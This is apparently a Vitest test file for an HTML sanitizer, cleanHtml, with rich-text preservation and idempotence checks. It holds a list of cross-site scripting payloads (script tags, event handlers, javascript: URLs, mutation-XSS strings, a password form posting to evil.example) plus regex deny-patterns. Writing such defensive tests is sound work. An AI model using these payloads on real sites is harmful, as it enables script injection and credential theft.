import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanHtml } from './cleanHtml.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<p id="root" name="x">x</p>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<<script>alert(1)//<</script>',
  '<audio src onerror=alert(1)></audio><video poster=javascript:alert(1)></video>',
  '<p class="ant-modal-mask">x</p>',
]

test.for(attacks)('%s', (attack) => {
  const clean = cleanHtml(`<p>前</p>${attack}<p>后</p>`)
  // Text between the tags is harmless; only the remaining tags count.
  const tags = clean.match(/<[^>]*>/g)?.join('') ?? ''
  expect(tags).not.toMatch(/\son\w+\s*=|javascript:|vbscript:|evil|expression|url\(|svg|position|\sid=|\sname=|ant-/i)
  expect(tags).not.toMatch(
    /<\/?(script|style|iframe|object|embed|form|input|button|link|meta|base|math|video|audio|template)\b/i,
  )
  expect(clean).toContain('<p>前</p>')
})

test('what people write stays', () => {
  const written =
    '<h3>一</h3><p class="ql-align-center">甲 <strong>乙</strong> <em>丙</em> <u>丁</u> <s>戊</s></p>' +
    '<ul><li><p>一</p></li></ul><ol start="3"><li data-list="bullet">二</li></ol><blockquote>引</blockquote>' +
    '<table><tbody><tr><td colspan="2">格</td></tr></tbody></table><p><span style="color:#f00">红</span></p>' +
    '<p>1 &lt; 2 &amp; 3</p><img src="data:image/png;base64,iVBORw0KGgo=" alt="图" />'
  expect(cleanHtml(written)).toBe(written)
  expect(cleanHtml('<a href="https://bank.example/a?b=1&amp;c=2">看</a>')).toBe(
    '<a href="https://bank.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">看</a>',
  )
})

test('cleaning twice changes nothing', () => {
  const piece = fc.oneof(fc.constantFrom(...attacks, '<p>', '</p>', '<b>', '&lt;', '"', "'", '<', '>'), fc.string())
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      const once = cleanHtml(pieces.join(''))
      expect(cleanHtml(once)).toBe(once)
    }),
  )
})
